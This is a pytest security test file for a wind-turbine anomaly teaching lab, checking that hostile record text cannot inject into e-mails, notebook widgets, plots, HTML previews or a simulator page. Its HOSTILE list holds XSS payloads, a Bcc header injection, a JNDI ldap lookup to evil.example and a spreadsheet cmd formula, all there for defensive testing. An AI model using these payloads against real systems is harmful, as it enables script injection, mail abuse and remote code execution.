"""Record fields are untrusted (anyone who can put to WindDataStream writes them): hostile location strings
cannot inject into the anomaly e-mail, the notebook widgets and plots, the instructor's HTML preview or the
simulator page. Text is escaped where it becomes HTML, made printable and length-limited where it becomes mail,
and never parsed as markup or math."""
from __future__ import annotations

import html
import io
import os
import sys
from decimal import Decimal

import nbformat
import pandas as pd
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from labkit import course
from labkit.config import LAMBDAS_DIR

sys.path.insert(0, str(LAMBDAS_DIR))
import analytics_destination  # noqa: E402
import anomaly_message_delivery as delivery  # noqa: E402
from kinesis_batch import MalformedRecord  # noqa: E402

MARKUP = [  # what must never reach a page as markup
    "<script>window.__xss=1</script>",
    "<img src=x onerror=\"window.__xss=1\">",
    "</pre><iframe src=javascript:window.__xss=1>",
    "\"><svg onload=window.__xss=1>",
]
HOSTILE = [*MARKUP,
           "North Ridge\r\nBcc: attacker@example.com\r\n\r\nClick http://evil.example",  # header/body injection
           "\u001b[2J\u001b[31mTURBINE OK",  # terminal escapes
           "Ridge\u202eliated",  # right-to-left override
           "Null\u0000byte",
           "$\\frac{1}{0}$ and $x^$",  # matplotlib math
           "{{7*7}} ${jndi:ldap://evil.example/a}",  # template and lookup syntax
           "=cmd|' /C calc'!A0",  # spreadsheet formula
           "W" * 5000]  # length


def anomaly(location: str, second: int = 1) -> dict:
    return {"event_id": f"e-{second}", "event_time": f"2026-11-27T10:00:{second:02d}.000Z", "location": location,
            "turbine_id": "WT-01", "speed": 88.5, "score": 4.2, "stuck": False, "rule": "rcf"}


@pytest.mark.parametrize("location", HOSTILE)
def test_a_hostile_location_cannot_inject_into_the_anomaly_email(location):
    try:
        item = analytics_destination.handle_record(anomaly(location), "shardId-0:1", 0.0)
    except MalformedRecord:
        item = {**anomaly(location), "reading_id": "r", "timestamp": anomaly(location)["event_time"],
                "wind_speed": Decimal("88.5"), "anomaly_score": Decimal("4.2")}  # typed into the table by hand
    body = delivery.message([item], 2.0)
    lines = body.split("\n")
    assert all(line.isprintable() for line in lines), [line for line in lines if not line.isprintable()]
    first = lines[0]
    assert first.startswith("Abnormal wind turbine speed detected at ") and first.endswith(".")
    assert len(first) <= len("Abnormal wind turbine speed detected at .") + 64 + len(" (turbine WT-01)")
    assert not any(line.lower().startswith(("bcc:", "to:", "subject:", "click")) for line in lines)
    assert len(body) < 1000
    assert delivery.SUBJECT == "Abnormal Wind Turbine Speed Detected"  # the subject never carries record text


def hostile_mails() -> list[dict]:
    return [{"to": "student@example.com", "topic": "AnomalyNotification", "subject": delivery.SUBJECT,
             "time": "2026-11-27T10:00:01.000Z", "body": f"Abnormal wind turbine speed detected at {text}."}
            for text in HOSTILE]


def hostile_items() -> list[dict]:
    return [{"location": text, "reading_id": f"2026-11-27T10:00:{i:02d}.000Z#e-{i}", "event_id": f"e-{i}",
             "timestamp": f"2026-11-27T10:00:{i:02d}.000Z", "wind_speed": 30.0 + i, "anomaly_score": 4.0,
             "turbine_id": text} for i, text in enumerate(HOSTILE)]


def no_markup(page: str) -> None:
    for text in MARKUP:
        assert text not in page, text
    for tag in ("<script>window", "<img src=x", "<iframe", "<svg"):
        assert tag not in page, tag


@pytest.fixture
def widgets(monkeypatch):
    """The inbox view and the table explorer as notebook 04/05 show them, fed hostile mails and items."""
    from labkit.resources import tables
    from labkit.ui import inbox_view, table_explorer

    monkeypatch.setattr(inbox_view, "inbox", lambda to, topic: hostile_mails())
    monkeypatch.setattr(tables, "items", lambda name, partition=None: hostile_items())
    monkeypatch.setattr(tables, "describe", lambda name: {"partition_key": "location"})
    return inbox_view.InboxView("student@example.com"), table_explorer.TableExplorer("WindDataTable")


def test_widgets_escape_hostile_record_text(widgets):
    inbox, explorer = widgets
    assert len(inbox.list.children) == len(HOSTILE)
    for child in inbox.list.children:
        no_markup(child.value)
    assert html.escape(MARKUP[0]) in inbox.list.children[0].value
    [shown] = explorer.items.outputs
    no_markup(shown["data"]["text/html"])
    assert html.escape(MARKUP[1], quote=False) in shown["data"]["text/html"]


def test_live_plots_draw_hostile_locations_as_plain_text(monkeypatch):
    from labkit.ui import plots

    frames = []

    class Handle:
        def update(self, figure):  # render it, as the notebook does
            buffer = io.BytesIO()
            figure.savefig(buffer, format="png")
            frames.append(buffer.getvalue())

    monkeypatch.setattr(plots, "display", lambda figure, display_id: Handle())
    rows = [{"event_time": f"2026-11-27T10:00:{s:02d}.000Z", "location": text[:60], "speed": 20.0 + s,
             "score": 1.0 + s, "event_id": f"e-{s}"} for s in range(3) for text in HOSTILE]
    data = pd.DataFrame(rows)
    plots.live(lambda: data, plots.draw_wind, seconds=0.01, title="WindDataStream")
    plots.live(lambda: data, plots.scores_drawer(2.0, {"e-1"}), seconds=0.01, title="scores")
    assert len(frames) == 2 and all(frame.startswith(b"\x89PNG") for frame in frames)


def test_the_instructor_preview_escapes_hostile_record_text(widgets, tmp_path, monkeypatch):
    inbox, explorer = widgets
    notebook = new_notebook()
    cell = new_code_cell("explorer")
    cell.outputs = [new_output("display_data", data=explorer.items.outputs[0]["data"]),
                    new_output("stream", name="stdout", text="\n".join(m["body"] for m in hostile_mails())),
                    new_output("error", ename="LabError", evalue=HOSTILE[1], traceback=[HOSTILE[0]])]
    notebook.cells = [cell]
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "version_major": 2, "version_minor": 0, "state": {
            child.model_id: {"model_name": "HTMLModel", "model_module": "@jupyter-widgets/controls",
                             "model_module_version": "2.0.0", "state": {"value": child.value}}
            for child in inbox.list.children}}}
    executed = tmp_path / "05_anomaly_emails.ipynb"
    nbformat.write(notebook, executed)
    monkeypatch.setattr(course, "vendor_widget_manager", lambda vendor: False)  # offline: no npm here

    index = course.write_preview([course.Result(executed, executed, 1.0, 0, HOSTILE[2], HOSTILE[3])],
                                 tmp_path / "preview")
    page = (tmp_path / "preview" / "05_anomaly_emails.html").read_text()
    no_markup(page)
    no_markup(index.read_text())
    assert html.escape(MARKUP[0]) in page and html.escape(HOSTILE[2]) in index.read_text()


@pytest.mark.browser
def test_the_simulator_page_shows_hostile_stream_names_as_text(stack, tmp_path):
    from playwright.sync_api import expect, sync_playwright

    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path="/usr/bin/chromium", env={
            **os.environ, "HOME": str(tmp_path)}, args=["--no-sandbox", "--disable-gpu", "--no-first-run"])
        page = browser.new_page()
        page.goto(f"{stack.service_url}/kinesis")
        for name in MARKUP:
            page.fill("#stream-name", name)
            page.click("#submit")
            expect(page.locator("#message")).to_contain_text("is not a valid stream name")
            assert name[:40] in page.locator("#message").inner_text()
            page.click("#start")
            expect(page.locator("#message")).to_contain_text("is not a stream name")
            assert page.locator("#message *").count() == 0
        assert page.evaluate("window.__xss") is None
        browser.close()
